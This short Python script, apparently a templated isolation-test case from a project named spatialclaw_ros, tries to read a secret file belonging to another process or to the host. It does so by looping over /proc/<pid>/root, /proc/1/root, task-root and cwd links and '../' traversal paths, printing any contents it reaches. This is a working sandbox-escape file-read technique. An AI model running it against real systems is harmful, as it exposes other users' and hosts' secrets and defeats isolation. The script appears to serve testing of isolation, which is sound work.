# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Go to the file by roads that lead through other processes' roots and folders."""

# act: read

import os

roads = ['/proc/self/root', f'/proc/{HOST_PID}/root', f'/proc/{VICTIM_PID}/root',
         f'/proc/{os.getppid()}/root', '/proc/1/root', f'/proc/{HOST_PID}/task/{HOST_PID}/root',
         f'/proc/{HOST_PID}/cwd/' + '../' * 12, '/usr/share/zoneinfo/' + '../' * 12]
for road in roads:
    try:
        print(open(road + SECRET_FILE).read())
    except OSError as error:
        print(error)
